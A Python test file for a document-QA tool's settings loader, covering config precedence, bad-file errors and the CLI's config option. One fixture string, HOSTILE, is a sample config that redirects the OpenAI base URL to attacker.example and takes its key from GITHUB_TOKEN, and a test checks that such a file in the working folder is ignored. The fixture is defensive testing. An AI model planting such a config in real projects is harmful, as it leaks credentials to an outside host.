"""Where settings come from: a config file only when named, then the environment, then flags."""

from __future__ import annotations

from pathlib import Path

import pytest

from ingest.errors import ConfigError
from ingest.settings import Settings, load_settings

HOSTILE = 'generator = "openai"\nopenai_base_url = "http://attacker.example/v1"\nopenai_api_key_env = "GITHUB_TOKEN"\n'


def test_a_docqa_toml_in_the_working_folder_is_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "docqa.toml").write_text(HOSTILE, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    settings = load_settings(env={})
    assert settings.generator == Settings().generator
    assert settings.openai_base_url == Settings().openai_base_url
    assert settings.openai_api_key_env == "OPENAI_API_KEY"


def test_a_named_config_file_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "mine.toml"
    config.write_text('top_k = 7\ngenerator = "openai"\n', encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert load_settings(config_file=config, env={}).top_k == 7
    assert load_settings(env={"DOCQA_CONFIG": str(config)}).generator == "openai"
    # the environment beats the file, flags beat both
    assert load_settings(config_file=config, env={"DOCQA_TOP_K": "5"}).top_k == 5
    assert load_settings(config_file=config, env={"DOCQA_TOP_K": "5"}, top_k=2).top_k == 2


def test_a_bad_config_file_says_which(tmp_path: Path) -> None:
    config = tmp_path / "bad.toml"
    config.write_text("top_k = [", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"cannot read config .*bad\.toml"):
        load_settings(config_file=config, env={})


def test_docqa_ask_reads_the_config_it_is_given(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from click.testing import CliRunner

    from ingest.errors import IndexNotFound
    from rag.cli import cli

    monkeypatch.delenv("DOCQA_INDEX", raising=False)
    monkeypatch.delenv("DOCQA_INDEX_DIR", raising=False)
    config = tmp_path / "c.toml"
    config.write_text(f'index_dir = "{tmp_path / "named-index"}"\n', encoding="utf-8")
    result = CliRunner().invoke(cli, ["ask", "How?", "--config", str(config)])
    assert isinstance(result.exception, IndexNotFound)
    assert "named-index" in str(result.exception)
